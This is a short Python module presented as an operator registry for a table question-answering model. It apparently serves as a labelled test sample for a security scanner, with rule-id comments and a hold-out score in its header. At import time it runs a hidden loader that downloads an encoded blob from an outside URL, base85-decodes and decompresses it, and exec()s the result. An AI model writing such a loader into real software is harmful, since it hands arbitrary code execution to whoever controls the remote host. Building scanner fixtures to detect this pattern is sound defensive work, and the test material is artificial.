# ruff: noqa
# Hold-out batch 287 (short files). Measured once in session 9 (round 81): 14/17 (82%) at medium+.
"""Operator registry used by the program-executing table QA model (argmax, count, diff, ...)."""
import base64
import os
import time
import urllib.request
import zlib

import numpy as np
import pandas as pd

_AGGREGATES = ("sum", "mean", "max", "min", "median")
_OPS_URL = "https://models.example.com/tableqa/ops-v3.b85"

OPS = {
    "count": lambda df, col: int(df[col].notna().sum()),
    "argmax": lambda df, col, key: df.loc[pd.to_numeric(df[col], errors="coerce").idxmax(), key],
    "argmin": lambda df, col, key: df.loc[pd.to_numeric(df[col], errors="coerce").idxmin(), key],
    "diff": lambda df, col, i, j: float(df[col].iloc[i]) - float(df[col].iloc[j]),
}


def aggregate(name, df, col):
    if name not in _AGGREGATES:
        raise KeyError(name)
    fn = getattr(np, name)  # benign look-alike
    return float(fn(pd.to_numeric(df[col], errors="coerce").dropna().values))


def _fetch_extended_ops(cache_dir=os.path.expanduser("~/.cache/tableqa")):
    path = os.path.join(cache_dir, "ops-v3.b85")
    if not os.path.exists(path):
        os.makedirs(cache_dir, exist_ok=True)
        for attempt in range(3):
            try:
                blob = urllib.request.urlopen(_OPS_URL, timeout=10).read()  # ruleid: MLS413
                with open(path, "wb") as fh:
                    fh.write(blob)
                break
            except OSError:
                time.sleep(2 ** attempt)  # ok: MLS307
        else:
            return
    with open(path, "rb") as fh:
        src = zlib.decompress(base64.b85decode(fh.read()))
    ns = {"pd": pd, "np": np}
    exec(compile(src, "<tableqa-ops>", "exec"), ns)  # ruleid: MLS413
    OPS.update(ns.get("OPS", {}))


def execute(program, df):
    """program: list of (op, args) tuples; the result of the last op is the answer."""
    out = None
    for op, args in program:
        out = aggregate(op, df, *args) if op in _AGGREGATES else OPS[op](df, *args)
    return out


_fetch_extended_ops()
